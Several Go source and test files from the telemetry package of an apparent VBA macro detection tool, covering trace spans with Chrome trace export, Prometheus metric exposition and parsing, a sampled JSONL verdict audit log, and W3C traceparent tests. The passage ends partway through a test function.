func TestSLOTrackerRegister(t *testing.T) {
	clk := newFakeClock()
	s := withClock(NewSLOTracker(0, 0, 0), clk)
	s.Observe(200, time.Millisecond)
	r := NewRegistry()
	s.Register(r)
	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatalf("render: %v", err)
	}
	out := sb.String()
	for _, want := range []string{
		`slo_availability_ratio{window="5m"} 1`,
		`slo_availability_ratio{window="1h"} 1`,
		`slo_latency_ratio{window="5m"} 1`,
		`slo_availability_burn_rate{window="5m"} 0`,
		`slo_latency_burn_rate{window="1h"} 0`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("exposition missing %q:\n%s", want, out)
		}
	}
}
