// Per-document trace spans: a Tracer owns the span tree for one scanned
// document (container parse, OVBA decompress, per-macro featurize and
// classify), recording wall-clock durations, byte counts and error tags.
// Trees export as JSON (one object per document, JSONL-friendly) and as a
// Chrome trace_event file loadable in chrome://tracing or Perfetto.
//
// A span tree belongs to the single goroutine scanning its document —
// the pipeline is sequential per document — so spans are deliberately
// unsynchronized. Tracers for different documents are independent.

package telemetry

import (
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"
)

// Attr is one ordered key/value annotation on a span. Attributes keep
// insertion order so exported trees are deterministic.
type Attr struct {
	Key   string `json:"k"`
	Value string `json:"v"`
}

// Span is one timed pipeline stage inside a document trace. Fields are
// exported for JSON marshaling; use the methods to populate them so the
// nil fast path holds.
type Span struct {
	// Name is the stage name ("extract", "cfb_parse", "classify", ...).
	Name string `json:"name"`
	// StartNS is the span start relative to the trace start, nanoseconds.
	StartNS int64 `json:"start_ns"`
	// DurNS is the span duration in nanoseconds (0 until End).
	DurNS int64 `json:"dur_ns"`
	// Bytes is an optional byte count attributed to the stage (input
	// size for parsers, decompressed output for OVBA).
	Bytes int64 `json:"bytes,omitempty"`
	// Err is the stage failure message, if any.
	Err string `json:"error,omitempty"`
	// Class is the error-taxonomy class of Err ("bomb", "truncated",
	// "malformed", ...) as assigned by the caller.
	Class string `json:"class,omitempty"`
	// Attrs are ordered key/value annotations.
	Attrs []Attr `json:"attrs,omitempty"`
	// Children are sub-stages in creation order.
	Children []*Span `json:"children,omitempty"`

	start time.Time
	tr    *Tracer
}

// Child starts a sub-span under s. Safe on a nil receiver (returns nil).
func (s *Span) Child(name string) *Span {
	if s == nil {
		return nil
	}
	now := time.Now()
	base := s.start // hand-built spans fall back to their own start
	if s.tr != nil {
		base = s.tr.start
	}
	c := &Span{Name: name, StartNS: now.Sub(base).Nanoseconds(), start: now, tr: s.tr}
	s.Children = append(s.Children, c)
	return c
}

// End stamps the span's duration. Calling End twice keeps the first stamp.
func (s *Span) End() {
	if s == nil || s.DurNS != 0 {
		return
	}
	s.DurNS = time.Since(s.start).Nanoseconds()
}

// SetBytes attributes a byte count to the span.
func (s *Span) SetBytes(n int64) {
	if s == nil {
		return
	}
	s.Bytes = n
}

// SetError records a stage failure with its taxonomy class ("" when the
// error falls outside the taxonomy).
func (s *Span) SetError(err error, class string) {
	if s == nil || err == nil {
		return
	}
	s.Err = err.Error()
	s.Class = class
}

// Annotate appends one ordered key/value attribute.
func (s *Span) Annotate(key, value string) {
	if s == nil {
		return
	}
	s.Attrs = append(s.Attrs, Attr{Key: key, Value: value})
}

// Tracer records the span tree for one scanned document.
type Tracer struct {
	// Doc identifies the document (a path or request filename).
	Doc string
	// StartUnixNS is the trace start as a Unix timestamp in nanoseconds.
	StartUnixNS int64

	// TraceID/SpanID/ParentSpanID are the tracer's W3C trace identity:
	// TraceID is shared by every hop of one request, SpanID names this
	// tracer's root span, ParentSpanID names the remote span this tree
	// hangs under (empty for a locally rooted trace). Set via
	// SetTraceContext; empty on tracers that never saw a traceparent.
	TraceID      string
	SpanID       string
	ParentSpanID string

	start time.Time
	root  *Span
}

// NewTracer starts a trace for one document. The root span ("scan") opens
// immediately; Finish closes it.
func NewTracer(doc string) *Tracer {
	now := time.Now()
	tr := &Tracer{Doc: doc, StartUnixNS: now.UnixNano(), start: now}
	tr.root = &Span{Name: "scan", start: now, tr: tr}
	return tr
}

// Root returns the trace's root span (nil for a nil tracer), the hook
// pipeline stages hang their sub-spans from.
func (t *Tracer) Root() *Span {
	if t == nil {
		return nil
	}
	return t.root
}

// SetTraceContext adopts a W3C trace context: the tracer's spans join
// tc's trace, parented under tc's span, and the tracer's own root span
// gets a fresh span ID. No-op on a nil tracer or an invalid context.
func (t *Tracer) SetTraceContext(tc TraceContext) {
	if t == nil || !tc.IsValid() {
		return
	}
	t.TraceID = tc.TraceID
	t.ParentSpanID = tc.SpanID
	t.SpanID = NewSpanID()
}

// Context returns the tracer's own trace context — the one to hand to
// the next hop so its spans parent under this tracer's root. The zero
// TraceContext when the tracer carries no trace identity.
func (t *Tracer) Context() TraceContext {
	if t == nil || t.TraceID == "" {
		return TraceContext{}
	}
	return TraceContext{TraceID: t.TraceID, SpanID: t.SpanID, Flags: "01"}
}

// Finish ends the root span. Idempotent.
func (t *Tracer) Finish() {
	if t == nil {
		return
	}
	t.root.End()
}

// Trace is the exportable form of a finished tracer: one JSON object per
// document, suitable for JSONL streams and API responses.
type Trace struct {
	Doc         string `json:"doc"`
	StartUnixNS int64  `json:"start_unix_ns"`
	// TraceID/SpanID/ParentSpanID carry the W3C trace identity when the
	// tracer joined a propagated trace (see Tracer.SetTraceContext).
	TraceID      string `json:"trace_id,omitempty"`
	SpanID       string `json:"span_id,omitempty"`
	ParentSpanID string `json:"parent_span_id,omitempty"`
	Root         *Span  `json:"root"`
}

// Trace snapshots the tracer for export. Returns nil for a nil tracer.
func (t *Tracer) Trace() *Trace {
	if t == nil {
		return nil
	}
	return &Trace{
		Doc: t.Doc, StartUnixNS: t.StartUnixNS,
		TraceID: t.TraceID, SpanID: t.SpanID, ParentSpanID: t.ParentSpanID,
		Root: t.root,
	}
}

// TraceWriter serializes finished traces as JSONL onto one writer, safe
// for concurrent use by scan workers.
type TraceWriter struct {
	mu  sync.Mutex
	w   io.Writer
	err error
}

// NewTraceWriter wraps w in a concurrent JSONL trace sink.
func NewTraceWriter(w io.Writer) *TraceWriter { return &TraceWriter{w: w} }

// Write appends one trace as a JSON line. The first write error sticks and
// suppresses later writes.
func (tw *TraceWriter) Write(t *Tracer) error {
	if tw == nil || t == nil {
		return nil
	}
	line, err := json.Marshal(t.Trace())
	if err != nil {
		return err
	}
	tw.mu.Lock()
	defer tw.mu.Unlock()
	if tw.err != nil {
		return tw.err
	}
	line = append(line, '\n')
	_, tw.err = tw.w.Write(line)
	return tw.err
}

// Err reports the sticky write error, if any — for callers whose sink
// closure cannot surface Write's return value.
func (tw *TraceWriter) Err() error {
	if tw == nil {
		return nil
	}
	tw.mu.Lock()
	defer tw.mu.Unlock()
	return tw.err
}

// chromeEvent is one complete event ("ph":"X") in the Chrome trace_event
// format. Timestamps and durations are microseconds.
type chromeEvent struct {
	Name string         `json:"name"`
	Ph   string         `json:"ph"`
	TS   float64        `json:"ts"`
	Dur  float64        `json:"dur"`
	PID  int            `json:"pid"`
	TID  int            `json:"tid"`
	Args map[string]any `json:"args,omitempty"`
}

// WriteChromeTrace renders traces as a Chrome trace_event JSON document
// (load via chrome://tracing or https://ui.perfetto.dev). Each document
// gets its own thread lane; span nesting maps to event nesting.
func WriteChromeTrace(w io.Writer, traces []*Trace) error {
	var events []chromeEvent
	for tid, t := range traces {
		if t == nil || t.Root == nil {
			continue
		}
		base := float64(t.StartUnixNS) / 1e3
		var walk func(s *Span)
		walk = func(s *Span) {
			args := map[string]any{"doc": t.Doc}
			if t.TraceID != "" {
				args["trace_id"] = t.TraceID
			}
			if s.Bytes > 0 {
				args["bytes"] = s.Bytes
			}
			if s.Err != "" {
				args["error"] = s.Err
			}
			if s.Class != "" {
				args["class"] = s.Class
			}
			for _, a := range s.Attrs {
				args[a.Key] = a.Value
			}
			events = append(events, chromeEvent{
				Name: s.Name,
				Ph:   "X",
				TS:   base + float64(s.StartNS)/1e3,
				Dur:  float64(s.DurNS) / 1e3,
				PID:  1,
				TID:  tid + 1,
				Args: args,
			})
			for _, c := range s.Children {
				walk(c)
			}
		}
		walk(t.Root)
	}
	enc := json.NewEncoder(w)
	if err := enc.Encode(map[string]any{"traceEvents": events}); err != nil {
		return fmt.Errorf("telemetry: chrome trace: %w", err)
	}
	return nil
}
