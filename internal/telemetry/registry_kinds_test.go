package telemetry

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

func TestInfoFuncExposition(t *testing.T) {
	r := NewRegistry()
	r.InfoFunc("vbadetect_build_info", "Build identity.", func() map[string]string {
		return map[string]string{"version": "v1.2.3", "goversion": "go1.22", "model": "stack"}
	})
	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatalf("render: %v", err)
	}
	want := `vbadetect_build_info{goversion="go1.22",model="stack",version="v1.2.3"} 1`
	if !strings.Contains(sb.String(), want) {
		t.Fatalf("exposition missing %q:\n%s", want, sb.String())
	}

	var js strings.Builder
	if err := r.WriteJSON(&js); err != nil {
		t.Fatalf("json: %v", err)
	}
	var tree map[string]map[string]string
	if err := json.Unmarshal([]byte(js.String()), &tree); err != nil {
		t.Fatalf("json decode: %v", err)
	}
	if tree["vbadetect_build_info"]["version"] != "v1.2.3" {
		t.Fatalf("json tree = %v", tree)
	}
}

func TestLabeledGaugeFuncExposition(t *testing.T) {
	r := NewRegistry()
	r.LabeledGaugeFunc("model_drift_psi", "PSI per channel.", "channel", func() ([]string, []float64) {
		return []string{"api", "v"}, []float64{0.12, 0.003}
	})
	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatalf("render: %v", err)
	}
	out := sb.String()
	for _, want := range []string{
		"# TYPE model_drift_psi gauge",
		`model_drift_psi{channel="api"} 0.12`,
		`model_drift_psi{channel="v"} 0.003`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("exposition missing %q:\n%s", want, out)
		}
	}
	var js strings.Builder
	if err := r.WriteJSON(&js); err != nil {
		t.Fatalf("json: %v", err)
	}
	var tree map[string]map[string]float64
	if err := json.Unmarshal([]byte(js.String()), &tree); err != nil {
		t.Fatalf("json decode: %v", err)
	}
	if tree["model_drift_psi"]["api"] != 0.12 {
		t.Fatalf("json tree = %v", tree)
	}
}

func TestExpositionCardinality(t *testing.T) {
	var b strings.Builder
	b.WriteString("# TYPE scans_total counter\nscans_total 1\n")
	b.WriteString("# TYPE request_seconds histogram\n")
	b.WriteString("request_seconds_bucket{le=\"0.1\"} 1\nrequest_seconds_bucket{le=\"+Inf\"} 1\n")
	b.WriteString("request_seconds_sum 0.05\nrequest_seconds_count 1\n")
	b.WriteString("# TYPE requests_total counter\n")
	for i := 0; i < 12; i++ {
		fmt.Fprintf(&b, "requests_total{path=%q} 1\n", fmt.Sprintf("/v1/doc/%d", i))
	}
	sum, err := ParseExposition([]byte(b.String()))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	if got := len(sum.LabelValues["requests_total"]["path"]); got != 12 {
		t.Fatalf("tracked %d path values, want 12", got)
	}
	// "le" must not count as cardinality.
	if _, ok := sum.LabelValues["request_seconds_bucket"]["le"]; ok {
		t.Fatalf("le bucket label tracked as cardinality")
	}
	v := sum.CardinalityViolations(10)
	if len(v) != 1 || v[0].Metric != "requests_total" || v[0].Label != "path" || v[0].Count != 12 {
		t.Fatalf("violations = %+v", v)
	}
	if v := sum.CardinalityViolations(12); len(v) != 0 {
		t.Fatalf("threshold 12 should pass, got %+v", v)
	}
}
