// The verdict audit log: structured JSONL events carrying the feature
// vector, classifier scores, triage summary and disposition flags for
// each scanned document, written for offline drift analysis (compare a
// deployment's score and feature distributions week over week without
// shipping document bytes anywhere).
//
// The logger is deliberately lossy by configuration: content-hash-keyed
// sampling picks a deterministic subset of traffic, a per-second rate cap
// bounds burst cost, and a byte cap bounds total file size. Drops are
// counted per cause so the analysis side can correct for them.

package telemetry

import (
	"encoding/json"
	"io"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// AuditMacro is the per-macro payload of an audit event.
type AuditMacro struct {
	// Module is the VBA module name.
	Module string `json:"module"`
	// Obfuscated is the predicted label.
	Obfuscated bool `json:"obfuscated"`
	// Score is the classifier decision score.
	Score float64 `json:"score"`
	// Features is the feature vector the classifier saw (15-dim V or
	// 20-dim J, per the event's FeatureSet).
	Features []float64 `json:"features"`
	// AutoExec / Suspicious / IOCs / Folds summarize the triage result.
	AutoExec   bool `json:"auto_exec,omitempty"`
	Suspicious bool `json:"suspicious,omitempty"`
	IOCs       int  `json:"iocs,omitempty"`
	Folds      int  `json:"folds,omitempty"`
	// SourceBytes is the macro length (the source itself never leaves
	// the process).
	SourceBytes int `json:"source_bytes"`
}

// AuditEvent is one JSONL record of the verdict audit log.
type AuditEvent struct {
	// TimeUnixNS is the event timestamp.
	TimeUnixNS int64 `json:"time_unix_ns"`
	// Doc identifies the document (path or request filename).
	Doc string `json:"doc"`
	// SHA256 is the hex content hash of the document bytes — the
	// sampling key and the join key for offline analysis.
	SHA256 string `json:"sha256"`
	// TraceID / RequestID tie the event to the distributed trace and the
	// originating HTTP request, so an audited verdict joins against span
	// trees and access logs without re-hashing anything.
	TraceID   string `json:"trace_id,omitempty"`
	RequestID string `json:"request_id,omitempty"`
	// Format is the container format ("ole", "ooxml"), "" on failure.
	Format string `json:"format,omitempty"`
	// FeatureSet is "V" or "J".
	FeatureSet string `json:"feature_set"`
	// Obfuscated is the file-level verdict.
	Obfuscated bool `json:"obfuscated"`
	// Macros holds the per-macro vectors and scores.
	Macros []AuditMacro `json:"macros,omitempty"`
	// Skipped counts macros below the significance threshold.
	Skipped int `json:"skipped,omitempty"`
	// Degraded / Quarantined are the disposition flags.
	Degraded    bool `json:"degraded,omitempty"`
	Quarantined bool `json:"quarantined,omitempty"`
	// Attempts is how many pipeline attempts the document took (>1 when
	// the engine's retry policy re-ran a transient failure).
	Attempts int `json:"attempts,omitempty"`
	// Error / ErrorClass report a failed scan.
	Error      string `json:"error,omitempty"`
	ErrorClass string `json:"error_class,omitempty"`
	// ExtractNS / FeaturizeNS / ClassifyNS are the per-stage timings,
	// accumulated across attempts.
	ExtractNS   int64 `json:"extract_ns,omitempty"`
	FeaturizeNS int64 `json:"featurize_ns,omitempty"`
	ClassifyNS  int64 `json:"classify_ns,omitempty"`
}

// AuditConfig tunes an AuditLogger. The zero value keeps everything:
// sample rate 1.0, no rate cap, no size cap.
type AuditConfig struct {
	// SampleRate in [0,1] is the fraction of documents kept, keyed on
	// the content hash so the decision is deterministic per document
	// (the same file always samples the same way, across replicas too).
	// 0 means 1.0 (keep everything); use Disabled to turn the log off.
	SampleRate float64
	// MaxPerSec caps events written per wall-clock second (0 = no cap).
	MaxPerSec int
	// MaxBytes caps the total bytes written over the logger's lifetime
	// (0 = no cap). Once reached, further events are dropped and
	// counted.
	MaxBytes int64
}

// AuditStats counts a logger's outcomes.
type AuditStats struct {
	// Written is the number of events serialized to the writer.
	Written int64
	// DroppedSampled / DroppedRate / DroppedSize count drops by cause.
	DroppedSampled int64
	DroppedRate    int64
	DroppedSize    int64
}

// AuditLogger writes sampled AuditEvents as JSONL. Safe for concurrent
// use; a nil logger is a valid disabled instance.
type AuditLogger struct {
	cfg AuditConfig

	written        atomic.Int64
	droppedSampled atomic.Int64
	droppedRate    atomic.Int64
	droppedSize    atomic.Int64

	mu          sync.Mutex
	w           io.Writer
	bytes       int64
	windowStart int64 // unix second of the current rate window
	windowCount int
	err         error
}

// NewAuditLogger wraps w in a sampled, capped JSONL audit sink.
func NewAuditLogger(w io.Writer, cfg AuditConfig) *AuditLogger {
	if cfg.SampleRate <= 0 {
		cfg.SampleRate = 1
	}
	if cfg.SampleRate > 1 {
		cfg.SampleRate = 1
	}
	return &AuditLogger{cfg: cfg, w: w}
}

// ShouldSample reports whether a document with the given hex SHA-256
// passes the sampling filter — callers use it to skip building the event
// (triage, vector copies) for documents that would be dropped anyway. A
// nil logger samples nothing.
func (l *AuditLogger) ShouldSample(sha256hex string) bool {
	if l == nil {
		return false
	}
	if l.cfg.SampleRate >= 1 {
		return true
	}
	return sampleKey(sha256hex) < uint64(l.cfg.SampleRate*float64(1<<63)*2)
}

// sampleKey folds the leading 16 hex digits of the content hash into the
// uniform uint64 the sampling threshold is compared against.
func sampleKey(sha256hex string) uint64 {
	if len(sha256hex) >= 16 {
		if v, err := strconv.ParseUint(sha256hex[:16], 16, 64); err == nil {
			return v
		}
	}
	// Not a hex hash — fall back to a cheap FNV-1a so sampling still
	// works for arbitrary keys.
	var h uint64 = 14695981039346656037
	for i := 0; i < len(sha256hex); i++ {
		h ^= uint64(sha256hex[i])
		h *= 1099511628211
	}
	return h
}

// Log writes one event, subject to sampling, the per-second rate cap and
// the lifetime byte cap. It reports whether the event was written. Safe
// on a nil logger (drops everything).
func (l *AuditLogger) Log(ev *AuditEvent) bool {
	if l == nil || ev == nil {
		return false
	}
	if !l.ShouldSample(ev.SHA256) {
		l.droppedSampled.Add(1)
		return false
	}
	if ev.TimeUnixNS == 0 {
		ev.TimeUnixNS = time.Now().UnixNano()
	}
	line, err := json.Marshal(ev)
	if err != nil {
		return false
	}
	line = append(line, '\n')

	l.mu.Lock()
	defer l.mu.Unlock()
	if l.err != nil {
		return false
	}
	if l.cfg.MaxPerSec > 0 {
		sec := ev.TimeUnixNS / int64(time.Second)
		if sec != l.windowStart {
			l.windowStart, l.windowCount = sec, 0
		}
		if l.windowCount >= l.cfg.MaxPerSec {
			l.droppedRate.Add(1)
			return false
		}
		l.windowCount++
	}
	if l.cfg.MaxBytes > 0 && l.bytes+int64(len(line)) > l.cfg.MaxBytes {
		l.droppedSize.Add(1)
		return false
	}
	if _, err := l.w.Write(line); err != nil {
		l.err = err
		return false
	}
	l.bytes += int64(len(line))
	l.written.Add(1)
	return true
}

// Stats snapshots the logger's written/dropped counters. Zero for a nil
// logger.
func (l *AuditLogger) Stats() AuditStats {
	if l == nil {
		return AuditStats{}
	}
	return AuditStats{
		Written:        l.written.Load(),
		DroppedSampled: l.droppedSampled.Load(),
		DroppedRate:    l.droppedRate.Load(),
		DroppedSize:    l.droppedSize.Load(),
	}
}
