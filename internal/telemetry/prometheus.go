// Prometheus text exposition (version 0.0.4): WritePrometheus renders a
// Registry as scrape-ready text, and ParseExposition is the minimal
// parser CI uses to validate what a live daemon actually serves.

package telemetry

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
)

// ExpositionContentType is the Content-Type for the text exposition
// format.
const ExpositionContentType = "text/plain; version=0.0.4; charset=utf-8"

// WritePrometheus renders every registered family in text exposition
// format, families sorted by name for deterministic output. Histograms
// emit the conventional _bucket/_sum/_count triplet with second-based
// "le" bounds; labeled counters emit one sample per label value.
func (r *Registry) WritePrometheus(w io.Writer) error {
	fams := r.snapshotFamilies()
	sort.Slice(fams, func(i, j int) bool { return fams[i].name < fams[j].name })
	bw := bufio.NewWriter(w)
	for _, f := range fams {
		if f.help != "" {
			fmt.Fprintf(bw, "# HELP %s %s\n", f.name, escapeHelp(f.help))
		}
		switch f.kind {
		case kindCounter:
			fmt.Fprintf(bw, "# TYPE %s counter\n%s %d\n", f.name, f.name, f.counter.Value())
		case kindGauge:
			fmt.Fprintf(bw, "# TYPE %s gauge\n%s %d\n", f.name, f.name, f.gauge.Value())
		case kindGaugeFunc:
			fmt.Fprintf(bw, "# TYPE %s gauge\n%s %s\n", f.name, f.name, formatFloat(f.fn()))
		case kindCounterFunc:
			fmt.Fprintf(bw, "# TYPE %s counter\n%s %d\n", f.name, f.name, f.intFn())
		case kindLabeledCounter:
			fmt.Fprintf(bw, "# TYPE %s counter\n", f.name)
			keys, vals := f.labeled.values()
			for i, k := range keys {
				fmt.Fprintf(bw, "%s{%s=%q} %d\n", f.name, f.labelKey, k, vals[i])
			}
		case kindLabeledGaugeFunc:
			fmt.Fprintf(bw, "# TYPE %s gauge\n", f.name)
			keys, vals := f.labeledFn()
			for i, k := range keys {
				if i < len(vals) {
					fmt.Fprintf(bw, "%s{%s=%q} %s\n", f.name, f.labelKey, k, formatFloat(vals[i]))
				}
			}
		case kindInfo:
			fmt.Fprintf(bw, "# TYPE %s gauge\n", f.name)
			labels := f.infoFn()
			keys := make([]string, 0, len(labels))
			for k := range labels {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			parts := make([]string, len(keys))
			for i, k := range keys {
				parts[i] = fmt.Sprintf("%s=%q", k, labels[k])
			}
			fmt.Fprintf(bw, "%s{%s} 1\n", f.name, strings.Join(parts, ","))
		case kindHistogram:
			fmt.Fprintf(bw, "# TYPE %s histogram\n", f.name)
			cum, count, sumSec := f.hist.snapshot()
			for i, bound := range f.hist.bounds {
				fmt.Fprintf(bw, "%s_bucket{le=%q} %d\n", f.name, formatFloat(bound), cum[i])
			}
			fmt.Fprintf(bw, "%s_bucket{le=\"+Inf\"} %d\n", f.name, cum[len(f.hist.bounds)])
			fmt.Fprintf(bw, "%s_sum %s\n", f.name, formatFloat(sumSec))
			fmt.Fprintf(bw, "%s_count %d\n", f.name, count)
		}
	}
	return bw.Flush()
}

// formatFloat renders a float the way Prometheus clients do: shortest
// representation that round-trips.
func formatFloat(f float64) string {
	return strconv.FormatFloat(f, 'g', -1, 64)
}

// escapeHelp escapes backslashes and newlines in HELP text.
func escapeHelp(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	return strings.ReplaceAll(s, "\n", `\n`)
}

// ExpositionSummary is what ParseExposition learned about a scrape.
type ExpositionSummary struct {
	// Families maps family name to declared TYPE ("counter", "gauge",
	// "histogram", "summary", "untyped").
	Families map[string]string
	// Samples is the number of sample lines parsed.
	Samples int
	// LabelValues counts distinct label values seen per sample name and
	// label key — the raw material for cardinality linting. The "le"
	// histogram-bucket label is excluded (its cardinality is the bucket
	// layout, not a leak).
	LabelValues map[string]map[string]map[string]bool
}

// CardinalityViolation is one label key whose distinct-value count
// exceeded a lint threshold.
type CardinalityViolation struct {
	Metric string
	Label  string
	Count  int
}

// CardinalityViolations returns every metric/label pair with more than
// max distinct values, sorted by metric then label for stable output.
func (s *ExpositionSummary) CardinalityViolations(max int) []CardinalityViolation {
	var out []CardinalityViolation
	for metric, byLabel := range s.LabelValues {
		for label, vals := range byLabel {
			if len(vals) > max {
				out = append(out, CardinalityViolation{Metric: metric, Label: label, Count: len(vals)})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Metric != out[j].Metric {
			return out[i].Metric < out[j].Metric
		}
		return out[i].Label < out[j].Label
	})
	return out
}

// ParseExposition is a minimal text-exposition parser: it validates that
// every non-comment line is `name[{labels}] value [timestamp]` with a
// metric-syntax name and a float value, that TYPE declarations are
// well-formed, and that histogram families carry matching _bucket, _sum
// and _count samples. It exists so CI can assert a live /metrics scrape
// is structurally valid without importing a Prometheus client.
func ParseExposition(data []byte) (*ExpositionSummary, error) {
	sum := &ExpositionSummary{
		Families:    make(map[string]string),
		LabelValues: make(map[string]map[string]map[string]bool),
	}
	buckets := make(map[string]map[string]bool) // histogram name -> parts seen
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(make([]byte, 0, 1<<20), 1<<20)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "#") {
			fields := strings.Fields(line)
			if len(fields) >= 2 && fields[1] == "TYPE" {
				if len(fields) != 4 {
					return nil, fmt.Errorf("line %d: malformed TYPE comment: %q", lineNo, line)
				}
				switch fields[3] {
				case "counter", "gauge", "histogram", "summary", "untyped":
				default:
					return nil, fmt.Errorf("line %d: unknown metric type %q", lineNo, fields[3])
				}
				sum.Families[fields[2]] = fields[3]
			}
			continue
		}
		name, labels, rest, err := parseSampleName(line)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		for _, lv := range labels {
			if lv[0] == "le" {
				continue
			}
			if sum.LabelValues[name] == nil {
				sum.LabelValues[name] = make(map[string]map[string]bool)
			}
			if sum.LabelValues[name][lv[0]] == nil {
				sum.LabelValues[name][lv[0]] = make(map[string]bool)
			}
			sum.LabelValues[name][lv[0]][lv[1]] = true
		}
		valueFields := strings.Fields(rest)
		if len(valueFields) < 1 || len(valueFields) > 2 {
			return nil, fmt.Errorf("line %d: want `name value [timestamp]`, got %q", lineNo, line)
		}
		if _, err := strconv.ParseFloat(valueFields[0], 64); err != nil {
			return nil, fmt.Errorf("line %d: bad sample value %q", lineNo, valueFields[0])
		}
		sum.Samples++
		for _, suffix := range []string{"_bucket", "_sum", "_count"} {
			base := strings.TrimSuffix(name, suffix)
			if base != name && sum.Families[base] == "histogram" {
				if buckets[base] == nil {
					buckets[base] = make(map[string]bool)
				}
				buckets[base][suffix] = true
			}
		}
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	for fam, typ := range sum.Families {
		if typ != "histogram" {
			continue
		}
		for _, part := range []string{"_bucket", "_sum", "_count"} {
			if !buckets[fam][part] {
				return nil, fmt.Errorf("histogram %s is missing %s samples", fam, part)
			}
		}
	}
	if sum.Samples == 0 {
		return nil, fmt.Errorf("exposition has no samples")
	}
	return sum, nil
}

// parseSampleName splits a sample line into its metric name, parsed
// label key/value pairs (values still quoted-escaped), and the remainder
// after the optional label set, validating all three.
func parseSampleName(line string) (name string, labelPairs [][2]string, rest string, err error) {
	i := strings.IndexAny(line, "{ ")
	if i <= 0 {
		return "", nil, "", fmt.Errorf("malformed sample line %q", line)
	}
	name = line[:i]
	if !validMetricName(name) {
		return "", nil, "", fmt.Errorf("invalid metric name %q", name)
	}
	if line[i] == ' ' {
		return name, nil, line[i+1:], nil
	}
	end := strings.Index(line, "}")
	if end < i {
		return "", nil, "", fmt.Errorf("unterminated label set in %q", line)
	}
	labels := line[i+1 : end]
	if labels != "" {
		for _, pair := range splitLabels(labels) {
			k, v, ok := strings.Cut(pair, "=")
			if !ok || !validMetricName(k) {
				return "", nil, "", fmt.Errorf("malformed label %q in %q", pair, line)
			}
			labelPairs = append(labelPairs, [2]string{k, strings.Trim(v, `"`)})
		}
	}
	return name, labelPairs, strings.TrimSpace(line[end+1:]), nil
}

// splitLabels splits `k1="v1",k2="v2"` on commas outside quotes.
func splitLabels(s string) []string {
	var out []string
	depth := false
	start := 0
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			if i == 0 || s[i-1] != '\\' {
				depth = !depth
			}
		case ',':
			if !depth {
				out = append(out, s[start:i])
				start = i + 1
			}
		}
	}
	out = append(out, s[start:])
	return out
}

// validMetricName checks the Prometheus metric/label name syntax
// [a-zA-Z_:][a-zA-Z0-9_:]*.
func validMetricName(s string) bool {
	if s == "" {
		return false
	}
	for i, c := range s {
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c == '_', c == ':':
		case c >= '0' && c <= '9':
			if i == 0 {
				return false
			}
		default:
			return false
		}
	}
	return true
}
