package telemetry

import (
	"strings"
	"testing"
)

func TestParseTraceparentRoundTrip(t *testing.T) {
	in := "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
	tc, err := ParseTraceparent(in)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	if tc.TraceID != "4bf92f3577b34da6a3ce929d0e0e4736" || tc.SpanID != "00f067aa0ba902b7" || tc.Flags != "01" {
		t.Fatalf("parsed fields = %+v", tc)
	}
	if got := tc.Traceparent(); got != in {
		t.Fatalf("round trip = %q, want %q", got, in)
	}
}

func TestParseTraceparentRejects(t *testing.T) {
	bad := []string{
		"",
		"00-short-00f067aa0ba902b7-01",
		"00-4bf92f3577b34da6a3ce929d0e0e4736-short-01",
		"00-00000000000000000000000000000000-00f067aa0ba902b7-01", // zero trace id
		"00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01", // zero span id
		"ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", // reserved version
		"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7",    // missing flags
		"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-extra",
		"00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01", // upper-case hex
	}
	for _, h := range bad {
		if _, err := ParseTraceparent(h); err == nil {
			t.Errorf("ParseTraceparent(%q) = nil error, want failure", h)
		}
	}
}

func TestParseTraceparentFutureVersion(t *testing.T) {
	// Forward compatibility: a future version with extra fields still
	// parses the leading four.
	tc, err := ParseTraceparent("cc-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-what-ever")
	if err != nil {
		t.Fatalf("future version: %v", err)
	}
	if tc.TraceID != "4bf92f3577b34da6a3ce929d0e0e4736" {
		t.Fatalf("trace id = %q", tc.TraceID)
	}
}

func TestNewTraceContext(t *testing.T) {
	tc := NewTraceContext()
	if !tc.IsValid() {
		t.Fatalf("fresh context invalid: %+v", tc)
	}
	if tc2 := NewTraceContext(); tc2.TraceID == tc.TraceID {
		t.Fatalf("two fresh contexts share trace id %s", tc.TraceID)
	}
	child := tc.Child()
	if child.TraceID != tc.TraceID {
		t.Fatalf("child changed trace id")
	}
	if child.SpanID == tc.SpanID {
		t.Fatalf("child kept parent span id")
	}
}

func TestTracerSetTraceContext(t *testing.T) {
	tc := NewTraceContext()
	tr := NewTracer("doc.docm")
	tr.SetTraceContext(tc)
	if tr.TraceID != tc.TraceID {
		t.Fatalf("tracer trace id = %q, want %q", tr.TraceID, tc.TraceID)
	}
	if tr.ParentSpanID != tc.SpanID {
		t.Fatalf("tracer parent span = %q, want %q", tr.ParentSpanID, tc.SpanID)
	}
	if tr.SpanID == tc.SpanID || tr.SpanID == "" {
